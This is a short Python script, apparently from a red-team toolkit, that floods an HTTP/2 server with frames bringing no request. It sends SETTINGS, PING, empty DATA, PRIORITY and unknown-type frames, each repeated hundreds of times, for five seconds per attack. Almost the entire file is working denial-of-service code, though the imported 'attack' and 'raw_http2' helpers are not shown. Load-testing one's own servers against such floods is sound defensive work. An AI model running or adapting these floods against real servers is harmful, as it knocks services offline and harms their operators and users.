#!/usr/bin/env python3
"""Floods of frames that bring no message."""

import itertools

import attack
from raw_http2 import (DATA, END_HEADERS, HEADERS, PING, PRIORITY, SETTINGS, call_headers, frame)

SECONDS = 5
UNKNOWN = 99


def flood(target, piece, before=b""):
    pieces = itertools.chain([before], itertools.repeat(piece * 500))
    return attack.flood(target, pieces, SECONDS)


def settings(target):
    return flood(target, frame(SETTINGS, 0, b"\0\x04\0\0\xff\xff"))


def pings(target):
    return flood(target, frame(PING, 0, b"redteam!"))


def empty_data(target):
    return flood(target, frame(DATA, 1), frame(HEADERS, 1, call_headers(), END_HEADERS))


def priorities(target):
    return flood(target, frame(PRIORITY, 1, bytes(5)))


def unknown_frames(target):
    return flood(target, frame(UNKNOWN, 0))


if __name__ == "__main__":
    attack.run([settings, pings, empty_data, priorities, unknown_frames])
